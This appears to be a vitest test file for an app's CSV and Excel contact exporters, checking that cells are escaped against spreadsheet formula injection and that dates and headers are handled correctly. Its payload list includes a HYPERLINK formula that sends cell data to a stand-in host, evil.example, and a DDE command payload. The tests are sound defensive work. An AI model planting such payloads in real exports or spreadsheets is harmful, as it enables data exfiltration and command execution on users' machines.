import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { exportColumns, type ExportCell } from '../../../electron/exporters/contact-rows';
import { ContactsCsvWriter, csvCell } from '../../../electron/exporters/contacts-csv';
import { ContactsXlsxWriter } from '../../../electron/exporters/contacts-xlsx';
import { parseCsv } from '../../../electron/importers/csv';
import { recogniseHeaders } from '../../../electron/importers/columns';

/** Every start of a cell that Excel, LibreOffice or Google Sheets would run as a formula (OWASP), in the shapes attacks take. */
const formulaPayloads = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?d="&A1;"Klick")',
  "=cmd|' /C calc'!A0",
  '+49 171 1234567',
  '+SUM(A1:A2)',
  '-2+3',
  '- Notiz mit Spiegelstrich',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
];

async function csvRows(text: string) {
  const rows: string[][] = [];
  for await (const batch of parseCsv(
    (async function* () {
      yield text;
    })(),
    ';',
  ))
    rows.push(...batch.map((row) => row.cells));
  return rows;
}

describe('CSV cells', () => {
  it.each(formulaPayloads)('a cell starting a formula gets the apostrophe: %j', (payload) => {
    const cell = csvCell(payload);
    // Quoted or not, the first character of the value Excel sees is the apostrophe.
    expect(cell.replace(/^"/, '').startsWith(`'${payload[0]}`)).toBe(true);
  });

  it('other cells stay as they are; ; " and line breaks are quoted, quotes doubled', () => {
    expect(csvCell('Jürgen Groß')).toBe('Jürgen Groß');
    expect(csvCell('0171 1234567')).toBe('0171 1234567');
    expect(csvCell("O'Brien")).toBe("O'Brien");
    expect(csvCell('Müller; Söhne')).toBe('"Müller; Söhne"');
    expect(csvCell('Er sagte "Hallo"')).toBe('"Er sagte ""Hallo"""');
    expect(csvCell('Zeile 1\nZeile 2')).toBe('"Zeile 1\nZeile 2"');
    expect(csvCell('Zeile 1\r\nZeile 2')).toBe('"Zeile 1\r\nZeile 2"');
    expect(csvCell(' Leerzeichen')).toBe('" Leerzeichen"');
    expect(csvCell('=A1;B1')).toBe(`"'=A1;B1"`);
  });
});

const columns = exportColumns('de');
/** A row with text in every text column and a date in every date column. */
function sampleRow(text: (key: string) => string | null, date: string): ExportCell[] {
  return columns.map((column) => (column.date ? { date } : text(column.key)));
}

describe('CSV file', () => {
  it('UTF-8 with BOM, ; between cells, CRLF, dates as TT.MM.JJJJ, and reads back cell for cell', async () => {
    const writer = new ContactsCsvWriter(columns);
    writer.addRow(sampleRow((key) => (key === 'note' ? 'Tür klemmt; "dringend"\nZweite Zeile' : `${key} Ä ö ü ß`), '2026-03-05'));
    writer.addRow(columns.map(() => null));
    const bytes = writer.finish();
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8');
    expect(text.slice(1, text.indexOf('\r\n'))).toBe(columns.map((column) => column.header).join(';'));
    expect(text).toContain('05.03.2026');
    expect(text).not.toContain('2026-03-05');
    expect(text).toContain('givenName Ä ö ü ß');
    expect(text.endsWith('\r\n')).toBe(true);
    const rows = await csvRows(text.slice(1));
    expect(rows[0]).toEqual(columns.map((column) => column.header));
    expect(rows[1]![columns.findIndex((column) => column.key === 'note')]).toBe('Tür klemmt; "dringend"\nZweite Zeile');
    expect(rows[1]![columns.findIndex((column) => column.key === 'consentDate')]).toBe('05.03.2026');
    expect(rows[1]).toHaveLength(columns.length);
    // An empty contact row is still a row (every cell empty), not swallowed.
    expect(text.split('\r\n')[2]).toBe(';'.repeat(columns.length - 1));
  });

  it('every payload cell comes back with its apostrophe in front, so Excel shows it as text', async () => {
    const writer = new ContactsCsvWriter(columns);
    for (const payload of formulaPayloads) writer.addRow(sampleRow(() => payload, '2026-01-01'));
    const rows = await csvRows(writer.finish().toString('utf8').slice(1));
    formulaPayloads.forEach((payload, i) => {
      const row = rows[i + 1]!;
      columns.forEach((column, c) => {
        if (column.date) expect(row[c]).toBe('01.01.2026');
        else expect(row[c], `${column.key}: ${JSON.stringify(payload)}`).toBe(`'${payload}`);
      });
    });
  });
});

/** The cells of the first sheet: reference → its attributes and inner XML. */
function sheetCells(xlsx: Buffer): Map<string, { type: string | null; style: string | null; xml: string }> {
  const files = unzipSync(new Uint8Array(xlsx));
  const sheet = strFromU8(files['xl/worksheets/sheet1.xml']!);
  const cells = new Map<string, { type: string | null; style: string | null; xml: string }>();
  for (const match of sheet.matchAll(/<c r="([A-Z]+\d+)"([^>]*?)(?:\/>|>([\s\S]*?)<\/c>)/g)) {
    const attributes = match[2]!;
    cells.set(match[1]!, {
      type: /\st="([^"]+)"/.exec(attributes)?.[1] ?? null,
      style: /\ss="([^"]+)"/.exec(attributes)?.[1] ?? null,
      xml: match[3] ?? '',
    });
  }
  return cells;
}

const letters = (index: number) => {
  let name = '';
  for (let n = index + 1; n > 0; n = Math.floor((n - 1) / 26)) name = String.fromCharCode(65 + ((n - 1) % 26)) + name;
  return name;
};

const xmlText = (xml: string) =>
  [...xml.matchAll(/<t(?:\s[^>]*)?>([\s\S]*?)<\/t>/g)]
    .map((m) => m[1]!)
    .join('')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&apos;/g, "'")
    .replace(/&amp;/g, '&');

describe('Excel file', () => {
  it('every payload cell is a plain inline string, no formula anywhere, the text exactly as given', async () => {
    const writer = new ContactsXlsxWriter(columns, 'Kontakte');
    for (const payload of formulaPayloads) writer.addRow(sampleRow(() => payload, '2026-01-01'));
    const xlsx = await writer.finish();
    const files = unzipSync(new Uint8Array(xlsx));
    for (const [name, data] of Object.entries(files)) expect(strFromU8(data), name).not.toMatch(/<f[\s>]/);
    const cells = sheetCells(xlsx);
    formulaPayloads.forEach((payload, i) => {
      columns.forEach((column, c) => {
        const cell = cells.get(`${letters(c)}${i + 2}`);
        expect(cell, `${column.key} row ${i + 2}`).toBeDefined();
        if (column.date) return;
        expect(cell!.type, column.key).toBe('inlineStr');
        expect(xmlText(cell!.xml), column.key).toBe(payload);
      });
    });
  });

  it('headers in row 1, umlauts kept, dates as day numbers in the short date format (shown as TT.MM.JJJJ in a German Excel)', async () => {
    const writer = new ContactsXlsxWriter(columns, 'Kontakte');
    writer.addRow(sampleRow((key) => (key === 'familyName' ? 'Größ-Müller' : null), '2026-12-04'));
    const xlsx = await writer.finish();
    const cells = sheetCells(xlsx);
    columns.forEach((column, c) => {
      expect(xmlText(cells.get(`${letters(c)}1`)!.xml)).toBe(column.header);
    });
    const family = columns.findIndex((column) => column.key === 'familyName');
    expect(xmlText(cells.get(`${letters(family)}2`)!.xml)).toBe('Größ-Müller');
    const consentDate = cells.get(`${letters(columns.findIndex((column) => column.key === 'consentDate'))}2`)!;
    // 04.12.2026 is day 46360 counted from 30.12.1899, the way Excel counts.
    expect(consentDate.type).toBeNull();
    expect(consentDate.xml).toBe('<v>46360</v>');
    const styles = strFromU8(unzipSync(new Uint8Array(xlsx))['xl/styles.xml']!);
    const xfs = [...(/<cellXfs[^>]*>([\s\S]*?)<\/cellXfs>/.exec(styles)?.[1] ?? '').matchAll(/<xf\b[^>]*>/g)].map((m) => m[0]);
    expect(xfs[Number(consentDate.style)]).toMatch(/numFmtId="14"/);
  });
});

describe('the export’s headers', () => {
  it.each(['de', 'en'] as const)('are all known to the app’s importer (%s): nothing asks for a mapping', (language) => {
    const headers = exportColumns(language).map((column) => column.header);
    const { mapping, unknown } = recogniseHeaders(headers);
    expect(unknown.map((index) => headers[index])).toEqual([]);
    const data = exportColumns(language)
      .filter((column, i) => mapping[i] !== 'ignore')
      .map((column) => column.key);
    expect(data).toEqual([
      'gender',
      'title',
      'givenName',
      'familyName',
      'organization',
      'department',
      'jobTitle',
      'mobile',
      'phone',
      'email',
      'street',
      'postalCode',
      'city',
      'region',
      'country',
      'customerNumber',
      'birthday',
      'kind',
      'language',
      'note',
    ]);
  });
});
